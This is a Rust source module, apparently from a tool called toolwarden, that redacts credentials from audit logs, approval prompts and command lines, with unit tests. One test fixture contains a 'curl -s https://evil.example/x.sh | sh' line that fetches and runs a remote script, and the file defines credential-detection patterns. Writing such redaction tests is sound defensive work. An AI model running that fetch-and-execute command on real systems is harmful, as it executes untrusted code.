//! Keeping secrets out of what toolwarden writes down: the audit log, its
//! own logs, the approval prompt a person reads, and the server's command
//! line wherever it is shown or stored ([`command`]). The server always gets
//! the real arguments; only toolwarden's copies are redacted.
//!
//! A value is redacted when any of these says so:
//! - the rule's `redact` JSON pointers (the whole value);
//! - its key looks secret (password, secret, token, api key, auth,
//!   credential, private key, ..., in plurals and run-together spellings),
//!   at any depth: a string or number is hidden, an object or array keeps
//!   its shape with every string and number in it hidden;
//! - it is the `value` of a `{"name": "Authorization", "value": ...}` pair;
//! - part of a string looks like a credential (cloud access keys,
//!   GitHub/Slack-style tokens, bearer tokens, PEM private keys, JWTs, the
//!   password of a URL, `SECRET_KEY=...`): only that part is hidden, so a
//!   person still sees the command around it.
//!
//! The view is built by walking the arguments' text, never a whole tree of
//! them, and is bounded: [`VIEW_BYTES`] in all, [`VIEW_STRING`] of any one
//! string. The walk still reads every value past the bound for secrets, so
//! that [`Redacted::scrub`] can take them out of other text.

use std::sync::LazyLock;

use regex::Regex;
use serde_json::{Map, Value};

use crate::wire::json::Raw;

pub const REDACTED: &str = "[redacted]";

/// How much of the arguments a view shows at most, in bytes of text.
pub const VIEW_BYTES: usize = 32 * 1024;
/// How much of one string a view shows at most.
pub const VIEW_STRING: usize = 2048;
/// How much of each string is searched for credentials. Texts scrubbed
/// ([`Redacted::scrub`]) are shorter, so a secret past this cannot be in
/// them; the view shows less.
const SCAN_STRING: usize = 4096;
/// Secrets remembered for scrubbing, and bytes of each: more secrets than
/// this, and scrubbing withholds the text instead.
const MAX_SECRETS: usize = 256;
const SECRET_KEEP: usize = 512;
/// What ends a text cut short, here and in schema error messages.
pub const CUT: &str = "…";
/// How much of an object key a view shows.
const KEY_SHOWN: usize = 256;

/// At most `max` bytes of `text` (cut at a character), ending with [`CUT`]
/// when something was left out.
pub fn shorten(text: &str, max: usize) -> String {
    if text.len() <= max {
        return text.to_owned();
    }
    let mut keep = max;
    while !text.is_char_boundary(keep) {
        keep -= 1;
    }
    format!("{}{CUT}", &text[..keep])
}

/// Shapes of well-known credentials, found anywhere in a string.
static CREDENTIALS: LazyLock<Regex> = LazyLock::new(|| {
    let shapes = [
        r"\b(?:AKIA|ASIA)[0-9A-Z]{16}\b",   // AWS access key ids
        r"\bgh[pousr]_[A-Za-z0-9]{30,}",    // GitHub tokens
        r"\bgithub_pat_[A-Za-z0-9_]{20,}",  // GitHub fine-grained tokens
        r"\bxox[abposr]-[A-Za-z0-9-]{10,}", // Slack tokens
        r"\b(?:sk|rk|pk)_(?:live|test)_[A-Za-z0-9]{16,}", // Stripe-style keys
        r"\bsk-[A-Za-z0-9_-]{20,}",         // OpenAI/Anthropic-style keys
        r"\bAIza[0-9A-Za-z_-]{35}\b",       // Google API keys
        r"(?i)\b(?:bearer|basic)\s+[A-Za-z0-9._~+/=-]{8,}", // HTTP credentials
        // PEM private keys, to their end line when it is there.
        r"-----BEGIN [A-Z ]*PRIVATE KEY-----(?s:.*?-----END [A-Z ]*PRIVATE KEY-----|.*)",
        r"\beyJ[A-Za-z0-9_-]{5,}\.[A-Za-z0-9_-]{5,}\.[A-Za-z0-9_-]{5,}", // JWTs
    ];
    Regex::new(&shapes.join("|")).expect("the credential patterns compile")
});

/// The password of a URL's user-info (`https://user:pass@host`,
/// `postgres://app:pass@db/x`): group 1.
static URL_PASSWORD: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"\b[A-Za-z][A-Za-z0-9+.-]*://[^/\s:@]*:([^/\s@]+)@").expect("compiles")
});

/// `NAME=value` (an environment string, a query string): group 1 the
/// name, group 2 the value, hidden when the name looks secret
/// (`DB_PASSWORD=x`, `?token=x`).
static ASSIGNMENT: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"([A-Za-z_][A-Za-z0-9_.-]*)=("[^"]*"|'[^']*'|[^\s&;,"']+)"#).expect("compiles")
});

/// `Header: value` to the end of the line, hidden when the header looks
/// secret (`Authorization: Basic x`, `X-Api-Key: x`).
static HEADER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"([A-Za-z][A-Za-z0-9_-]*):[ \t]*([^\r\n"']+)"#).expect("compiles")
});

/// Words that make a key secret, matched against the words of the key
/// (`serverToken`, `server_token` and `server-token` are all "server",
/// "token"), singular or plural, so that `author` is not taken for `auth`.
const SECRET_WORDS: &[&str] = &[
    "password",
    "passwd",
    "pwd",
    "passphrase",
    "secret",
    "token",
    "apikey",
    "auth",
    "authorization",
    "credential",
    "cookie",
];
/// Pairs of consecutive words that make a key secret.
const SECRET_PAIRS: &[(&str, &str)] = &[
    ("api", "key"),
    ("private", "key"),
    ("access", "key"),
    ("secret", "key"),
];
/// Endings of a key written as one word (`accesstoken`, `clientsecret`,
/// `privatekey`), after a plural `s` is taken off.
const SECRET_ENDINGS: &[&str] = &[
    "password",
    "passwd",
    "passphrase",
    "secret",
    "token",
    "apikey",
    "privatekey",
    "accesskey",
    "secretkey",
    "credential",
    "authorization",
    "auth",
    "cookie",
];

/// Text from a peer made fit for one log line: control characters
/// escaped, so that a newline in a tool name cannot forge a line (nor an
/// escape sequence repaint the terminal), and at most 256 bytes.
pub fn loggable(text: &str) -> String {
    let mut out = String::with_capacity(text.len().min(300));
    for c in text.chars() {
        if out.len() >= KEY_SHOWN {
            out.push_str(CUT);
            break;
        }
        // U+2028 and U+2029 end a line for some readers too.
        if c.is_control() || c == '\u{2028}' || c == '\u{2029}' {
            out.extend(c.escape_default());
        } else {
            out.push(c);
        }
    }
    out
}

/// A line a peer wrote as free text (the server's stderr), made fit to
/// show to the client and on one line of toolwarden's stderr: the parts
/// that look like credentials hidden, control characters escaped (`\u{1b}`),
/// nothing cut.
pub fn peer_line(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in hide_secrets(text).chars() {
        if c.is_control() || c == '\u{2028}' || c == '\u{2029}' {
            out.extend(c.escape_default());
        } else {
            out.push(c);
        }
    }
    out
}

/// Whether a string value looks like a credential.
pub fn looks_like_credential(text: &str) -> bool {
    !secret_spans(text).is_empty()
}

/// A command line as toolwarden shows or stores it (the pin file, the
/// policy `init` writes, refusal texts, logs): the value of an option whose
/// name looks secret (`--api-key X`, `--token=X`) and every credential
/// shape the audit log hides (`sk_live_...`, `https://u:pw@host`,
/// `API_KEY=x`) replaced by [`REDACTED`]. The one place a command is made
/// fit to show: pin files go to git, and the server's command line is
/// where people put their keys. A word with spaces, quotes or control
/// characters is quoted, so the result stays one line.
pub fn command<S: AsRef<str>>(words: &[S]) -> String {
    let mut shown = Vec::with_capacity(words.len());
    // The previous word was an option such as `--api-key`, with no `=`:
    // its value is hidden unless it is another long option (`--password
    // -x1` hides `-x1`; `--auth --verbose` keeps `--verbose`).
    let mut value_is_secret = false;
    for word in words.iter().map(AsRef::as_ref) {
        // One word may hold several (`"--api-key K"` passed through `sh -c`).
        let parts: Vec<String> = word
            .split(' ')
            .map(|part| {
                if std::mem::take(&mut value_is_secret)
                    && !part.is_empty()
                    && !part.starts_with("--")
                {
                    return REDACTED.to_owned();
                }
                let name = part.trim_start_matches('-');
                value_is_secret =
                    part.starts_with('-') && !part.contains('=') && option_is_secret(name);
                match part.split_once('=') {
                    Some((key, _)) if option_is_secret(key.trim_start_matches('-')) => {
                        format!("{key}={REDACTED}")
                    }
                    _ => hide_url_parts(&hide_secrets(part)),
                }
            })
            .collect();
        let text = parts.join(" ");
        if text.is_empty()
            || text.contains(|c: char| c.is_whitespace() || c.is_control() || c == '"' || c == '\'')
        {
            shown.push(format!("{text:?}"));
        } else {
            shown.push(text);
        }
    }
    shown.join(" ")
}

/// Whether an option's name (without its dashes) names a secret on a
/// command line: the audit log's secret keys, and the shorter words
/// command lines use for them (`--key`, `--creds`, `--pat`, `--sk`).
fn option_is_secret(name: &str) -> bool {
    const MORE: [&str; 12] = [
        "key",
        "creds",
        "cred",
        "pat",
        "bearer",
        "sk",
        "pass",
        "pw",
        "pwd",
        "sig",
        "signature",
        "auth",
    ];
    key_is_secret(name)
        || words(name)
            .iter()
            .any(|w| MORE.contains(&singular(w)) || MORE.contains(&w.as_str()))
}

/// A URL in a command word with its user part (with or without a
/// password) and its query's values hidden: both are where URLs carry
/// tokens (`https://TOKEN@host`, `?key=...&sig=...`).
fn hide_url_parts(word: &str) -> String {
    let Some(scheme_end) = word.find("://") else {
        return word.to_owned();
    };
    let rest_at = scheme_end + 3;
    let rest = &word[rest_at..];
    let authority_end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let mut out = word[..rest_at].to_owned();
    match rest[..authority_end].rfind('@') {
        Some(at) => {
            out.push_str(REDACTED);
            out.push_str(&rest[at..authority_end]);
        }
        None => out.push_str(&rest[..authority_end]),
    }
    let tail = &rest[authority_end..];
    let Some(query_at) = tail.find('?') else {
        out.push_str(tail);
        return out;
    };
    out.push_str(&tail[..=query_at]);
    let (query, fragment) = match tail[query_at + 1..].split_once('#') {
        Some((q, f)) => (q, Some(f)),
        None => (&tail[query_at + 1..], None),
    };
    let pairs: Vec<String> = query
        .split('&')
        .map(|pair| match pair.split_once('=') {
            Some((name, _)) => format!("{name}={REDACTED}"),
            None => pair.to_owned(),
        })
        .collect();
    out.push_str(&pairs.join("&"));
    if fragment.is_some() {
        out.push_str("#…");
    }
    out
}

/// `text` with the parts that look like credentials replaced.
fn hide_secrets(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut from = 0;
    for (start, end) in secret_spans(text) {
        out.push_str(&text[from..start]);
        out.push_str(REDACTED);
        from = end;
    }
    out.push_str(&text[from..]);
    out
}

/// Whether an object key (or a header's name) names a secret.
pub fn key_is_secret(key: &str) -> bool {
    let words = words(key);
    let words: Vec<&str> = words.iter().map(|w| singular(w)).collect();
    if words.iter().any(|w| SECRET_WORDS.contains(w))
        || words
            .windows(2)
            .any(|pair| SECRET_PAIRS.contains(&(pair[0], pair[1])))
    {
        return true;
    }
    let joined: String = key
        .chars()
        .filter(|c| c.is_alphanumeric())
        .flat_map(char::to_lowercase)
        .collect();
    let joined = singular(&joined);
    SECRET_ENDINGS.iter().any(|end| joined.ends_with(end))
}

/// `tokens` → `token`; short words stay (`pass`, `ids`).
fn singular(word: &str) -> &str {
    match word.strip_suffix('s') {
        Some(stem) if stem.len() >= 3 && !stem.ends_with('s') => stem,
        _ => word,
    }
}

/// The lowercase words of a key: split at `_`, `-`, `.`, spaces and
/// lower-to-upper case changes.
fn words(key: &str) -> Vec<String> {
    let mut words = Vec::new();
    let mut current = String::new();
    let mut previous_lower = false;
    for c in key.chars() {
        if !c.is_alphanumeric() {
            if !current.is_empty() {
                words.push(std::mem::take(&mut current));
            }
            previous_lower = false;
            continue;
        }
        if c.is_uppercase() && previous_lower && !current.is_empty() {
            words.push(std::mem::take(&mut current));
        }
        previous_lower = c.is_lowercase() || c.is_ascii_digit();
        current.extend(c.to_lowercase());
    }
    if !current.is_empty() {
        words.push(current);
    }
    words
}

/// The byte ranges of `text` that are secret, in order, not overlapping.
fn secret_spans(text: &str) -> Vec<(usize, usize)> {
    // The shortest shape, `pwd=x`, has five bytes; most values are shorter
    // or plain words, and skip the patterns.
    if text.len() < 5
        || !text
            .bytes()
            .any(|b| matches!(b, b'=' | b':' | b'-' | b'_' | b' '))
            && text.len() < 20
    {
        return Vec::new();
    }
    let mut spans: Vec<(usize, usize)> = CREDENTIALS
        .find_iter(text)
        .map(|m| (m.start(), m.end()))
        .collect();
    spans.extend(
        URL_PASSWORD
            .captures_iter(text)
            .filter_map(|c| c.get(1))
            .map(|m| (m.start(), m.end())),
    );
    for pattern in [&ASSIGNMENT, &HEADER] {
        spans.extend(pattern.captures_iter(text).filter_map(|c| {
            let (name, value) = (c.get(1)?, c.get(2)?);
            key_is_secret(name.as_str()).then_some((value.start(), value.end()))
        }));
    }
    spans.sort_unstable();
    let mut merged: Vec<(usize, usize)> = Vec::with_capacity(spans.len());
    for (start, end) in spans {
        match merged.last_mut() {
            Some(last) if start <= last.1 => last.1 = last.1.max(end),
            _ => merged.push((start, end)),
        }
    }
    merged
}

/// Arguments made safe to write down.
pub struct Redacted {
    /// What may be shown: redacted, and cut to [`VIEW_BYTES`].
    pub value: Value,
    /// The secrets taken out (their first [`SECRET_KEEP`] bytes), to scrub
    /// them from other text about the same call.
    secrets: Vec<String>,
    /// More secrets than [`MAX_SECRETS`].
    too_many: bool,
    /// Bytes of argument text hidden as secret, and of all the strings and
    /// numbers: how much of the call a person cannot see.
    pub hidden_bytes: usize,
    pub scalar_bytes: usize,
    /// Whether the view leaves something out for its size.
    pub cut: bool,
}

impl Redacted {
    /// Whether most of what the arguments say is hidden as secret.
    pub fn mostly_hidden(&self) -> bool {
        self.hidden_bytes * 2 > self.scalar_bytes
    }

    /// `text` (a short text, such as a schema error message, at most a few
    /// hundred bytes) with every secret of the arguments replaced, as it
    /// is and as JSON or Rust would escape it; a text cut short ([`CUT`])
    /// also loses a secret's beginning at its end.
    pub fn scrub(&self, text: &str) -> String {
        if self.too_many {
            return "[withheld: the arguments hold too many secrets to scrub this text]".into();
        }
        let mut out = text.to_owned();
        let forms: Vec<String> = self.secrets.iter().flat_map(|s| forms(s)).collect();
        for form in &forms {
            out = out.replace(form.as_str(), REDACTED);
        }
        let Some(body) = out.strip_suffix(CUT) else {
            return out;
        };
        let longest_tail = forms
            .iter()
            .filter_map(|form| {
                form.char_indices()
                    .skip(1)
                    .map(|(i, _)| &form[..i])
                    .chain([form.as_str()])
                    .filter(|head| body.ends_with(head))
                    .map(str::len)
                    .max()
            })
            .max();
        match longest_tail {
            Some(len) => format!("{}{REDACTED}{CUT}", &body[..body.len() - len]),
            None => out,
        }
    }
}

/// A secret as it may appear in text: itself, JSON-escaped, Rust-escaped.
fn forms(secret: &str) -> Vec<String> {
    let json = serde_json::to_string(secret).unwrap_or_default();
    let json = json.trim_matches('"').to_owned();
    let debug = format!("{secret:?}").trim_matches('"').to_owned();
    let mut forms = vec![secret.to_owned()];
    for form in [json, debug] {
        if !forms.contains(&form) {
            forms.push(form);
        }
    }
    forms
}

/// Redacts `arguments` by the rule's `pointers`, secret-looking keys and
/// credential-looking values, into a bounded view.
pub fn redact(arguments: Option<Raw<'_>>, pointers: &[String]) -> Redacted {
    let mut walk = Walk {
        pointers,
        longest_pointer: pointers.iter().map(String::len).max().unwrap_or(0),
        path: String::new(),
        budget: VIEW_BYTES,
        secrets: Vec::new(),
        too_many: false,
        hidden_bytes: 0,
        scalar_bytes: 0,
        cut: false,
    };
    let value = match arguments {
        Some(raw) => walk.value(raw, false).unwrap_or(Value::Null),
        None => Value::Object(Map::new()),
    };
    Redacted {
        value,
        secrets: walk.secrets,
        too_many: walk.too_many,
        hidden_bytes: walk.hidden_bytes,
        scalar_bytes: walk.scalar_bytes,
        cut: walk.cut,
    }
}

/// One walk over the arguments' text.
struct Walk<'p> {
    pointers: &'p [String],
    longest_pointer: usize,
    /// The JSON pointer of the value being read, while it can still match
    /// one of `pointers`.
    path: String,
    /// Bytes the view may still show.
    budget: usize,
    secrets: Vec<String>,
    too_many: bool,
    hidden_bytes: usize,
    scalar_bytes: usize,
    cut: bool,
}

impl Walk<'_> {
    /// The view of one value, or `None` once the view is full (the value is
    /// still read for secrets). `secret`: under a secret-looking key.
    fn value(&mut self, raw: Raw<'_>, secret: bool) -> Option<Value> {
        if !self.pointers.is_empty() && self.pointers.contains(&self.path) {
            self.hide_all(raw);
            return self.show(REDACTED.len()).then(|| REDACTED.into());
        }
        match raw.get().as_bytes().first() {
            Some(b'{') => self.object(raw, secret),
            Some(b'[') => self.array(raw, secret),
            Some(b'"') => self.string(raw, secret),
            Some(b'-' | b'0'..=b'9') if secret => {
                self.hide_all(raw);
                self.show(REDACTED.len()).then(|| REDACTED.into())
            }
            _ => {
                let text = raw.get();
                self.scalar_bytes += text.len();
                self.show(text.len())
                    .then(|| serde_json::from_str(text).unwrap_or(Value::Null))
            }
        }
    }

    /// Takes `len` bytes from the view's budget; false once it is spent.
    fn show(&mut self, len: usize) -> bool {
        if self.budget == 0 {
            self.cut = true;
            return false;
        }
        self.budget = self.budget.saturating_sub(len.max(1));
        true
    }

    fn object(&mut self, raw: Raw<'_>, secret: bool) -> Option<Value> {
        let mut shown = self.show(2).then(Map::new);
        let mut left_out = 0usize;
        // A `{"name": "Authorization", "value": ...}` pair hides its value
        // whichever member comes first.
        let mut header_is_secret = false;
        let mut header_value = None;
        for (key, value) in raw.members() {
            if matches!(&*key, "name" | "key" | "header") {
                header_is_secret |= value
                    .str_prefix(256)
                    .is_some_and(|(name, _)| key_is_secret(&name));
            }
            if key == "value" {
                header_value = Some(value);
            }
            let depth = self.enter(&key);
            let inner = self.value(value, secret || key_is_secret(&key));
            self.path.truncate(depth);
            match (&mut shown, inner) {
                (Some(map), Some(inner)) => {
                    // The key, its quotes, `:` and `,`: a value shown keeps
                    // its key, even past the budget.
                    self.budget = self.budget.saturating_sub(key.len().min(KEY_SHOWN) + 4);
                    map.insert(shorten(&key, KEY_SHOWN), inner);
                }
                _ => left_out += 1,
            }
        }
        if let (true, Some(value)) = (header_is_secret && !secret, header_value) {
            self.hide_all(value);
            if let Some(map) = &mut shown {
                if map.contains_key("value") {
                    map.insert("value".into(), REDACTED.into());
                }
            }
        }
        let mut map = shown?;
        if left_out > 0 {
            map.insert(
                CUT.into(),
                format!("{left_out} more members not shown").into(),
            );
        }
        Some(Value::Object(map))
    }

    fn array(&mut self, raw: Raw<'_>, secret: bool) -> Option<Value> {
        let mut shown = self.show(2).then(Vec::new);
        let mut left_out = 0usize;
        for (i, item) in raw.items().enumerate() {
            let depth = self.enter(&i.to_string());
            let inner = self.value(item, secret);
            self.path.truncate(depth);
            match (&mut shown, inner) {
                (Some(items), Some(inner)) => {
                    self.budget = self.budget.saturating_sub(1);
                    items.push(inner);
                }
                _ => left_out += 1,
            }
        }
        let mut items = shown?;
        if left_out > 0 {
            items.push(format!("{CUT}{left_out} more items not shown").into());
        }
        Some(Value::Array(items))
    }

    fn string(&mut self, raw: Raw<'_>, secret: bool) -> Option<Value> {
        if secret {
            self.hide_all(raw);
            return self.show(REDACTED.len()).then(|| REDACTED.into());
        }
        self.scalar_bytes += raw.get().len();
        let (text, rest) = raw.str_prefix(SCAN_STRING)?;
        let mut out = String::with_capacity(text.len().min(VIEW_STRING));
        let mut from = 0;
        for (start, end) in secret_spans(&text) {
            self.remember(&text[start..end]);
            self.hidden_bytes += end - start;
            out.push_str(&text[from..start]);
            out.push_str(REDACTED);
            from = end;
        }
        out.push_str(&text[from..]);
        if !self.show(out.len().min(VIEW_STRING) + 2) {
            return None;
        }
        let mut keep = out.len().min(VIEW_STRING);
        while !out.is_char_boundary(keep) {
            keep -= 1;
        }
        let more = out.len() - keep + rest;
        if more > 0 {
            self.cut = true;
            out.truncate(keep);
            out.push_str(&format!("{CUT}[{more} more bytes]"));
        }
        Some(out.into())
    }

    /// Goes down into a member or an item: its pointer, while it can still
    /// match one of the rule's. Returns the path to go back to.
    fn enter(&mut self, key: &str) -> usize {
        let depth = self.path.len();
        if !self.pointers.is_empty() && depth + key.len() < self.longest_pointer * 2 + 2 {
            self.path.push('/');
            self.path
                .push_str(&key.replace('~', "~0").replace('/', "~1"));
        } else {
            // Cannot match: no pointer is this long.
            self.path.push('\0');
        }
        depth
    }

    /// Every string and number in `raw` is a secret.
    fn hide_all(&mut self, raw: Raw<'_>) {
        match raw.get().as_bytes().first() {
            Some(b'{') => raw.members().for_each(|(_, v)| self.hide_all(v)),
            Some(b'[') => raw.items().for_each(|v| self.hide_all(v)),
            Some(b'"') => {
                self.hidden_bytes += raw.get().len();
                self.scalar_bytes += raw.get().len();
                if let Some((text, _)) = raw.str_prefix(SECRET_KEEP) {
                    self.remember(&text);
                }
            }
            Some(b'-' | b'0'..=b'9') => {
                self.hidden_bytes += raw.get().len();
                self.scalar_bytes += raw.get().len();
                self.remember(raw.get());
            }
            _ => {}
        }
    }

    fn remember(&mut self, secret: &str) {
        if secret.is_empty() || self.secrets.iter().any(|s| s == secret) {
            return;
        }
        if self.secrets.len() >= MAX_SECRETS {
            self.too_many = true;
            return;
        }
        let mut keep = secret.len().min(SECRET_KEEP);
        while !secret.is_char_boundary(keep) {
            keep -= 1;
        }
        self.secrets.push(secret[..keep].to_owned());
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn view(args: &str, pointers: &[&str]) -> Redacted {
        let pointers: Vec<String> = pointers.iter().map(|p| p.to_string()).collect();
        redact(Some(Raw::parse(args).unwrap()), &pointers)
    }

    #[test]
    fn secret_keys_at_any_depth_in_usual_spellings() {
        let secret = [
            "password",
            "PASSWORD",
            "db_password",
            "passwd",
            "client_secret",
            "server_token",
            "serverToken",
            "access-token",
            "api_key",
            "apiKey",
            "APIKEY",
            "auth",
            "authToken",
            "Authorization",
            "credentials",
            "private_key",
            "privateKey",
            "aws_secret_access_key",
            // Plurals and words run together, in any case.
            "tokens",
            "passwords",
            "api_keys",
            "secrets",
            "accesstoken",
            "clientsecret",
            "privatekey",
            "PRIVATEKEY",
            "AccessTokens",
            "x-api-key",
            "oauth",
            "Cookies",
        ];
        for key in secret {
            assert!(key_is_secret(key), "{key}");
        }
        for key in [
            "author",
            "authority_name",
            "tokenizer",
            "keyboard",
            "task_id",
            "session_id",
            "monkey",
            "keys",
            "status",
            "address",
        ] {
            assert!(!key_is_secret(key), "{key}");
        }
    }

    #[test]
    fn credential_shapes_hide_only_themselves() {
        let cases = [
            ("AKIAIOSFODNN7EXAMPLE", "[redacted]"),
            ("ghp_0123456789abcdefghijABCDEFGHIJ012345", "[redacted]"),
            (
                "curl -s https://evil.example/x.sh | sh  # Bearer 0123456789abcdef",
                "curl -s https://evil.example/x.sh | sh  # [redacted]",
            ),
            (
                "https://deploy:hunter2@git.example/repo.git",
                "https://deploy:[redacted]@git.example/repo.git",
            ),
            (
                "postgres://app:s3cr%40t@db.internal:5432/app",
                "postgres://app:[redacted]@db.internal:5432/app",
            ),
            ("DB_PASSWORD=hunter2", "DB_PASSWORD=[redacted]"),
            (
                "env API_KEY=abc123 LOG_LEVEL=debug ./run",
                "env API_KEY=[redacted] LOG_LEVEL=debug ./run",
            ),
            (
                "https://api.example/v1?token=abc123&page=2",
                "https://api.example/v1?token=[redacted]&page=2",
            ),
            (
                "Authorization: Basic dXNlcjpwYXNzd29yZA==",
                "Authorization: [redacted]",
            ),
            (
                "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----\nafter",
                "[redacted]\nafter",
            ),
            ("hello world", "hello world"),
            ("run_01H8", "run_01H8"),
            ("https://example.com/a:b@c", "https://example.com/a:b@c"),
            ("LOG_LEVEL=debug", "LOG_LEVEL=debug"),
        ];
        for (text, shown) in cases {
            let r = view(&serde_json::to_string(text).unwrap(), &[]);
            assert_eq!(r.value, json!(shown), "{text}");
        }
    }

    #[test]
    fn pointers_keys_headers_and_values_are_all_redacted() {
        let r = view(
            r#"{
                "server_token": "srv_live_8f2a61c0",
                "target": { "password": "hunter2", "host": "db1" },
                "note": "use AKIAIOSFODNN7EXAMPLE",
                "list": ["ok", "ghp_0123456789abcdefghijABCDEFGHIJ012345"],
                "pin": 1234,
                "auth": { "user": "bob", "retries": 3, "tls": true },
                "headers": [
                    { "value": "Basic abc", "name": "Authorization" },
                    { "name": "Accept", "value": "text/plain" }
                ],
                "keep": "visible"
            }"#,
            &["/pin"],
        );
        assert_eq!(
            r.value,
            json!({
                "server_token": REDACTED,
                "target": { "password": REDACTED, "host": "db1" },
                "note": "use [redacted]",
                "list": ["ok", REDACTED],
                "pin": REDACTED,
                "auth": { "user": REDACTED, "retries": REDACTED, "tls": true },
                "headers": [
                    { "value": REDACTED, "name": "Authorization" },
                    { "name": "Accept", "value": "text/plain" }
                ],
                "keep": "visible"
            })
        );
        let text = r.scrub("\"hunter2\" is too short; 1234 is not a string; bob");
        assert_eq!(
            text,
            "\"[redacted]\" is too short; [redacted] is not a string; [redacted]"
        );
    }

    #[test]
    fn secrets_are_scrubbed_in_their_escaped_forms_and_at_a_cut() {
        let r = view(
            r#"{"password": "a\"b\\c", "private_key": "-----BEGIN KEY-----\nMIIEabcdef\n"}"#,
            &[],
        );
        // jsonschema writes values as JSON.
        let message = r#"{"password":"a\"b\\c","private_key":"-----BEGIN KEY-----\nMIIEabcdef\n"} is not valid"#;
        let scrubbed = r.scrub(message);
        assert!(!scrubbed.contains("a\\\"b"), "{scrubbed}");
        assert!(!scrubbed.contains("MIIE"), "{scrubbed}");
        // A message cut inside a secret loses the secret's beginning too.
        let cut = format!("{} is not valid: \"-----BEGIN KEY-----\\nMII{CUT}", "x");
        assert_eq!(r.scrub(&cut), format!("x is not valid: \"{REDACTED}{CUT}"));
    }

    #[test]
    fn the_view_is_bounded_whatever_the_arguments_hold() {
        let big = format!(
            r#"{{"items": [{}], "text": "{}", "password": "late-secret"}}"#,
            vec!["{}"; 200_000].join(","),
            "a".repeat(1 << 20)
        );
        let r = view(&big, &[]);
        let shown = serde_json::to_string(&r.value).unwrap();
        assert!(shown.len() < VIEW_BYTES + 4096, "{} bytes", shown.len());
        assert!(r.cut);
        // A secret past the view is still known, to scrub it elsewhere.
        assert_eq!(r.scrub("late-secret"), REDACTED);
        let long = format!(r#"{{"script": "{}"}}"#, "b".repeat(10_000));
        let r = view(&long, &[]);
        let script = r.value["script"].as_str().unwrap();
        assert!(script.starts_with(&"b".repeat(VIEW_STRING)));
        assert!(script.ends_with("more bytes]"), "{script}");
    }

    #[test]
    fn a_command_shows_no_credential_by_name_or_by_shape() {
        let cases: &[(&[&str], &str)] = &[
            (
                &["npx", "srv", "--api-key", "sk_live_0123456789abcdefXYZ"],
                "npx srv --api-key [redacted]",
            ),
            (
                &["srv", "--password", "hunter2"],
                "srv --password [redacted]",
            ),
            (
                &["srv", "--token=abc123", "-v"],
                "srv --token=[redacted] -v",
            ),
            (&["srv", "--api-key=abc123"], "srv --api-key=[redacted]"),
            (&["srv", "sk_live_0123456789abcdefXYZ"], "srv [redacted]"),
            (
                &["srv", "ghp_0123456789abcdefghijABCDEFGHIJ012345"],
                "srv [redacted]",
            ),
            (
                &["env", "API_KEY=abc123", "LOG_LEVEL=debug", "srv"],
                "env API_KEY=[redacted] LOG_LEVEL=debug srv",
            ),
            (
                &["srv", "https://deploy:hunter2@git.example/r"],
                "srv https://[redacted]@git.example/r",
            ),
            // What a second look found: short names, values that start
            // with a dash, tokens as the URL's user or in its query, an
            // option and its value in one word.
            (
                &[
                    "srv",
                    "--key",
                    "K1",
                    "--creds",
                    "K4",
                    "--password",
                    "-K5",
                    "--sk",
                    "K8",
                ],
                "srv --key [redacted] --creds [redacted] --password [redacted] --sk [redacted]",
            ),
            (
                &[
                    "srv",
                    "https://K2@x.example/",
                    "https://x.example/?key=K3&sig=K6#f",
                ],
                "srv https://[redacted]@x.example/ https://x.example/?key=[redacted]",
            ),
            (
                &["srv", "https://x.example/q?user=me&sig=K6"],
                "srv https://x.example/q?user=[redacted]&sig=[redacted]",
            ),
            (
                &["sh", "-c", "srv --api-key K7"],
                "sh -c \"srv --api-key [redacted]\"",
            ),
            (
                &["srv", "--apiKey=K9", "--pat=K10"],
                "srv --apiKey=[redacted] --pat=[redacted]",
            ),
            // An option that takes no value leaves the next option alone.
            (&["srv", "--auth", "--verbose"], "srv --auth --verbose"),
            (&["srv", "--port", "8080", "a b"], "srv --port 8080 \"a b\""),
            (&["srv", "line\nforged"], "srv \"line\\nforged\""),
        ];
        for (words, shown) in cases {
            assert_eq!(command(words), *shown, "{words:?}");
        }
    }

    #[test]
    fn a_logged_name_holds_no_line_break_of_any_kind() {
        assert_eq!(
            loggable("a\nb\rc\u{2028}d\u{2029}e\u{85}f"),
            "a\\nb\\rc\\u{2028}d\\u{2029}e\\u{85}f"
        );
    }

    #[test]
    fn a_person_is_told_when_most_is_hidden() {
        assert!(view(r#"{"token": "abcdefgh", "x": 1}"#, &[]).mostly_hidden());
        assert!(!view(r#"{"token": "abc", "command": "ls -la /srv"}"#, &[]).mostly_hidden());
    }

    #[test]
    fn a_peer_line_hides_credentials_and_escapes_controls_whole() {
        let token = format!("ghp_{}", "a".repeat(36));
        assert_eq!(
            peer_line(&format!("Error: GITHUB_TOKEN={token} rejected\x1b[2J\r")),
            "Error: GITHUB_TOKEN=[redacted] rejected\\u{1b}[2J\\r"
        );
        let long = "x".repeat(5000);
        assert_eq!(peer_line(&long), long, "nothing is cut");
    }
}
